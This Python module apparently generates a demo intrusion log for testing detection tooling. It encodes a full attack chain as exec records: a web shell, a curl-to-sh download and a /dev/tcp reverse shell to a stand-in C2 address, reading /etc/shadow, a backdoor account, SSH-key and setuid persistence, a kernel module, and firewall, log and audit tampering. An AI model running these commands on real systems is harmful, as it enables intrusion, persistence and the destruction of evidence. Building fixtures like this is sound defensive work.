"""The demo intrusion (examples/intrusion.log), written by make_logs.py.

A web shell in an Apache upload directory (apache2 -> sh as www-data): recon,
a download piped into a shell, a dropped binary run from /tmp, a reverse
shell; then, as root, persistence (account, password, SSH key, crontab,
setuid copy of bash, kernel module), credential access, firewall and log
tampering, and auditing switched off. Benign activity is interleaved.
"""

from __future__ import annotations

from make_logs import Exec, bash, sh

WWW, ROOT_SHELL, NOBODY = 33, 6100, 4294967295
C2 = "203.0.113.50"


def _www(cmd: str, **kw) -> Exec:
    kw.setdefault("ppid", 812)
    return sh(cmd, uid=WWW, auid=NOBODY, cwd="/var/www/html/uploads", **kw)


def _root(argv: list, **kw) -> Exec:
    kw.setdefault("ppid", ROOT_SHELL)
    return Exec(argv, uid=0, auid=NOBODY, cwd="/root", **kw)


INTRUSION: list[Exec] = [
    Exec(["/usr/sbin/apache2", "-k", "start"], pid=812, ppid=1, auid=NOBODY, cwd="/"),
    Exec(["/usr/sbin/cron", "-f"], pid=640, ppid=1, auid=NOBODY, cwd="/"),
    _www("id", pid=5001),
    Exec(["id"], ppid=5001, uid=WWW, auid=NOBODY, cwd="/var/www/html/uploads"),
    _www("uname -a; cat /etc/os-release", pid=5010),
    Exec(["ls", "-la", "/home"], ppid=1999, uid=1000, cwd="/home/alice"),
    _www("ps aux | grep -v grep | grep -i docker", pid=5020),
    Exec(["socat", "-", "UNIX-CONNECT:/run/docker.sock"], ppid=5020, uid=WWW, auid=NOBODY,
         cwd="/var/www/html/uploads"),
    _www(f"curl -fsSL http://{C2}/s.sh | sh", pid=5030),
    Exec(["curl", "-fsSL", f"http://{C2}/s.sh"], ppid=5030, uid=WWW, auid=NOBODY,
         cwd="/var/www/html/uploads"),
    Exec(["mkdir", "-p", "/tmp/.s"], ppid=5030, uid=WWW, auid=NOBODY, cwd="/var/www/html/uploads"),
    Exec(["chmod", "+x", "/tmp/.s/kw"], ppid=5030, uid=WWW, auid=NOBODY,
         cwd="/var/www/html/uploads"),
    Exec(["/tmp/.s/kw", "--daemon"], pid=5040, ppid=5030, uid=WWW, auid=NOBODY, cwd="/tmp/.s"),
    Exec(["/bin/sh", "-c", "run-parts --report /etc/cron.hourly"], exe="/usr/bin/dash", ppid=640,
         auid=NOBODY, cwd="/root"),
    bash(f"bash -i >& /dev/tcp/{C2}/443 0>&1", pid=5050, ppid=812, uid=WWW, auid=NOBODY,
         cwd="/var/www/html/uploads"),
    Exec(["python3", "-c", "import pty;pty.spawn('/bin/bash')"], exe="/usr/bin/python3.11", pid=5060,
         ppid=5050, uid=WWW, auid=NOBODY, cwd="/var/www/html/uploads"),
    Exec(["su", "-"], pid=6090, ppid=5060, uid=0, auid=NOBODY, cwd="/var/www/html/uploads"),
    Exec(["-bash"], exe="/usr/bin/bash", path="/bin/bash", pid=ROOT_SHELL, ppid=6090, uid=0,
         auid=NOBODY, cwd="/root"),
    _root(["cat", "/etc/shadow"]),
    _root(["useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "sysupdate"], exe="/usr/sbin/useradd"),
    _root(["passwd", "sysupdate"]),
    sh("echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0x op@c2' >> /root/.ssh/authorized_keys",
       ppid=ROOT_SHELL, uid=0, auid=NOBODY),
    _root(["crontab", "/tmp/.s/cron"]),
    _root(["cp", "/bin/bash", "/tmp/.s/.b"]),
    _root(["chmod", "4755", "/tmp/.s/.b"]),
    _root(["insmod", "/tmp/.s/rk.ko"], exe="/usr/bin/kmod", path="/usr/sbin/insmod"),
    Exec(["systemctl", "status", "nginx"], ppid=1999, uid=0, auid=1000, cwd="/root"),
    _root(["iptables", "-F"], exe="/usr/sbin/xtables-nft-multi", path="/usr/sbin/iptables"),
    _root(["shred", "-u", "-z", "/var/log/auth.log"]),
    _root(["rm", "-f", "/root/.bash_history"]),
    _root(["auditctl", "-e", "0"], exe="/usr/sbin/auditctl"),
]
